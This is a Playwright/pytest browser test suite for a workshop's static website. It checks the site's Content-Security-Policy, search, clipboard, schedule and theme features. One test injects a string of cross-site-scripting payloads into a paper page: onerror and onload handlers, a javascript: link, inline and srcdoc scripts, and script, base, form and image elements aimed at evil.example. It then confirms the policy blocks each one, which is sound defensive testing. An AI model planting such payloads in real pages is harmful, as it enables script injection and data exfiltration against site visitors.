"""The workshop's own site in a browser that obeys the policy in the pages' heads."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from browsing import watch
from searching import ADAM, PAPER, box, field_of, titles, wait_for_results
from sites import served

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page, Route

    from sites import Site

pytestmark = pytest.mark.browser

PAGES = [
    "index", "call", "speakers", "access", "announcements", "search", "my-programme", "genindex",
    "sessions/index", "sessions/posters-1", "sessions/invited-1", "papers/index", "papers/map",
    PAPER, "authors/index", "authors/maksym-andriushchenko", "topics/index",
    "topics/generalization",
]  # fmt: skip
PLACE = '<div class="pr-paper">'
POLICY = "meta[http-equiv='Content-Security-Policy']"


@pytest.fixture
def page(chromium: Browser, flagship_address: str) -> Iterator[Page]:
    """A page whose address begins at the site; anything that is refused fails the test."""
    context = chromium.new_context(base_url=f"{flagship_address}/")
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=flagship_address)
    faults = watch(context)
    yield context.new_page()
    context.close()
    assert faults == []


@pytest.mark.parametrize("path", PAGES)
def test_no_kind_of_page_asks_for_anything_that_is_refused(page: Page, path: str) -> None:
    page.goto(f"{path}.html", wait_until="networkidle")
    expect(page.locator(f"head > meta[charset] + {POLICY}")).to_have_count(1)
    expect(page.locator(POLICY)).to_have_attribute("content", re.compile("^default-src 'none'; "))
    attributes = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
    )
    assert [name for name in attributes if name.startswith("on")] == []
    # Scripts of the site run: without them these stay hidden.
    expect(page.locator(".pr-needs-script[hidden]")).to_have_count(0)


def test_search_finds_and_shows(page: Page) -> None:
    page.goto(f"{PAPER}.html")
    page.keyboard.press("Control+k")
    field_of(page).press_sequentially("adam relaxd")
    wait_for_results(page, "adam relaxd")
    expect(titles(page).first).to_have_text(ADAM)
    titles(page).first.click()
    expect(page.locator("article h1")).to_contain_text(ADAM)
    page.goto("search.html?q=adam&type=poster")
    expect(titles(page).first).to_be_visible()
    expect(box(page)).to_have_count(0)


def test_copy_star_zone_and_map_work(page: Page) -> None:
    page.goto(f"{PAPER}.html")
    page.get_by_role("button", name="Copy BibTeX").click()
    expect(page.get_by_text("Copied.")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()").startswith("@inproceedings{")
    page.locator(".pr-links .pr-star").click()
    expect(page.locator(".pr-links .pr-star")).to_have_attribute("aria-pressed", "true")
    page.goto("sessions/index.html")
    page.get_by_label("Times in").select_option("Asia/Tokyo")
    expect(page.locator(".pr-schedule .pr-event").first).to_contain_text("Asia/Tokyo")
    page.goto("my-programme.html")
    expect(page.locator(".pr-mine")).to_contain_text("Sharpness-Aware Minimization")
    page.goto("papers/map.html")
    expect(page.locator("[class^=pr-map] svg").first).to_be_visible()


def test_the_themes_colour_switch_works(page: Page) -> None:
    page.goto("index.html")
    for mode in ("Dark", "Light", "System Settings"):
        page.get_by_role("button", name="Color mode").click()
        page.locator(".theme-change-button", has_text=mode).click()
        known = "auto" if mode == "System Settings" else mode.lower()
        expect(page.locator("html")).to_have_attribute("data-mode", known)
    expect(page.locator("html")).to_have_attribute("data-theme", "light")


@pytest.mark.parametrize("builder", ["html", "dirhtml"])
def test_a_menu_of_versions_knows_the_names_of_pages(
    chromium: Browser, site: Site, builder: str
) -> None:
    versions = {"json_url": "versions.json", "version_match": "1"}
    built = site.build(builder, html_theme_options={"switcher": versions, "check_switcher": False})
    assert "DOCUMENTATION_OPTIONS.pagename" not in built.page("papers/aaaaaaaaa1").html
    page = chromium.new_page()
    with served(built.out) as address:
        for docname in ("index", "papers/aaaaaaaaa1", "authors/index"):
            page.goto(f"{address}/{built.app.builder.get_target_uri(docname)}")
            found = page.evaluate("DOCUMENTATION_OPTIONS.pagename")
            assert found.removesuffix("/index") == docname.removesuffix("/index")
    page.close()


def test_what_got_into_a_page_is_refused(chromium: Browser, flagship_address: str) -> None:
    """As if something hostile had passed all escaping."""
    page = chromium.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    hostile = (
        "<img src=x onerror='window.canary = 1'><svg onload='window.canary = 2'></svg>"
        "<a id=run href='javascript:window.canary = 3'>run</a>"
        "<script>window.canary = 4</script><script src='https://evil.example/5.js'></script>"
        "<iframe srcdoc='<script>parent.canary = 6</script>'></iframe>"
        "<base href='https://evil.example/'><form id=out action='https://evil.example/'></form>"
        "<style>h1 { display: none }</style><img src='https://evil.example/8.png'>"
    )

    def stuff(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace(PLACE, PLACE + hostile, 1))

    page.route("**/papers/*.html", stuff)
    page.goto(f"{flagship_address}/{PAPER}.html", wait_until="networkidle")
    expect(page.locator("article h1")).to_be_visible()
    page.evaluate("document.getElementById('run').click()")
    with page.expect_console_message(lambda message: "form-action" in message.text):
        page.evaluate("document.getElementById('out').submit()")
    assert page.evaluate("window.canary ?? document.baseURI") == f"{flagship_address}/{PAPER}.html"
    for asked in ("inline event handler", "javascript:", "inline script", "5.js", "inline style",
                  "8.png", "form", "base"):  # fmt: skip
        assert any(asked in text.lower() and "policy" in text.lower() for text in refused), asked
    page.close()
